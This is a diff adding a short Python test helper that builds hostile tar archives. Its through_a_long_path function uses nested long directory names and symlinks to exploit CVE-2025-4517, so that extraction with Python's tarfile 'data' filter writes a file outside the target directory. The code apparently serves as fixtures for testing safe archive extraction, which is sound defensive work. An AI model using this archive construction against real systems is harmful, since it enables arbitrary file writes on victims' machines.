@@ -1,0 +1,39 @@
+"""Archives with members that an honest one does not have."""
+
+from __future__ import annotations
+
+import io
+import os
+import tarfile
+from pathlib import Path
+
+Member = tuple[tarfile.TarInfo, bytes]
+
+STEPS = "abcdefghijklmnop"
+
+
+def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", content: bytes = b"") -> Member:
+    made = tarfile.TarInfo(name)
+    made.type, made.linkname, made.size = kind, link, len(content)
+    return made, content
+
+
+def write(path: Path, *members: Member, mode: str = "w:gz") -> Path:
+    with tarfile.open(path, mode) as tar:  # type: ignore[call-overload]
+        for info, content in members:
+            tar.addfile(info, io.BytesIO(content))
+    return path
+
+
+def through_a_long_path(target: Path) -> list[Member]:
+    """CVE-2025-4517: realpath gives up on a path this long, and `filter="data"` lets the last link out."""
+    members, path, folder = [], "", "d" * 247
+    for step in STEPS:
+        members.append(member(os.path.join(path, folder), tarfile.DIRTYPE))
+        members.append(member(os.path.join(path, step), tarfile.SYMTYPE, folder))
+        path = os.path.join(path, folder)
+    longest = os.path.join("/".join(STEPS), "l" * 254)
+    members.append(member(longest, tarfile.SYMTYPE, "../" * len(STEPS)))
+    members.append(member("escape", tarfile.SYMTYPE, longest + "/.." * 14 + str(target)))
+    members.append(member("escape/slipped", content=b"outside"))
+    return members
